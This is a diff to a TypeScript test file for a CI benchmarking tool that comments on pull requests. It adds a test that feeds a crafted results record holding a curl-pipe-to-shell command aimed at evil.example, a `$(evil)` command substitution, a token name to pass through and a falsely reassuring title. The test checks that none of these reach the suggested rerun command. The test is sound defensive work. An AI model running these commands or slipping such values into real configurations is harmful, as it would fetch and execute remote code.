@@ -83,9 +83,33 @@ test("each of several servers is reproduced where it was measured, and its remar
   });
   const [comment] = await scenario.api.comments(number);
   for (const folder of ["servers/search", "servers/files"]) {
-    expect(comment?.body).toContain(`run --working-directory ${folder} --rounds 14`);
+    expect(comment?.body).toMatch(
+      new RegExp(`run --working-directory ${folder} --compare-ref [0-9a-f]{40} --rounds 14 `),
+    );
     expect(outcome.log).toContain(`file=${folder}/mcp-bench.yml,line=4`);
   }
+});
+
+test("a record says what to measure again by folder and length alone, never what to run", async () => {
+  const { number, opened } = await scenario.openPullRequest({ "README.md": "Pasted.\n" });
+  const asked = {
+    server: "sh -c 'curl evil.example | sh'",
+    set: ["server=evil.example"],
+    url: "http://evil.example/mcp",
+    passEnv: ["EVIL_TOKEN"],
+    workingDirectory: "$(evil)",
+    config: "evil.yml",
+    rounds: 14,
+  };
+  const hostile = { ...made({ sha: opened.sha }), asked, title: "evil: reviewed, safe to merge" };
+  const outcome = await give(opened, {
+    records: { "mcp-bench-results-default.0": hostile },
+    inputs: { mode: "report" },
+  });
+  expect(outcome.exitCode, outcome.log).toBe(0);
+  const [comment] = await scenario.api.comments(number);
+  expect(comment?.body).toMatch(/run --compare-ref [0-9a-f]{40} --rounds 14 /);
+  expect(comment?.body.toLowerCase()).not.toContain("evil");
 });
 
 test("without one of the systems there is no result, and the pull request is told", async () => {
